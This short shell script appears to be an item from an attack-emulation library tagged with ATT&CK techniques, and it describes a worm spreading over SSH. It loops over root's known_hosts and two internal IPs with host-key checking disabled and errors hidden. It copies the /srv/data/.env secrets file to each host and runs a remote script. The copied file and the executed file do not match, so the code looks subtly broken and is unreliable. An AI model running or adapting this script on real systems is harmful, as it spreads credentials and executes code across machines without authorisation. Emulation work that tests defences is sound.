# title: A worm goes on to all hosts that root has ever logged in to
# technique: T1021.004 T1570
# needs: ssh scp

for host in $(cut -d' ' -f1 /root/.ssh/known_hosts) 10.20.0.10 10.20.0.11; do
    timeout 1 scp -o BatchMode=yes -o StrictHostKeyChecking=no /srv/data/.env "root@$host:/tmp/" 2>/dev/null
    timeout 1 ssh -o BatchMode=yes -o StrictHostKeyChecking=no "root@$host" 'sh /tmp/x' 2>/dev/null
done; true
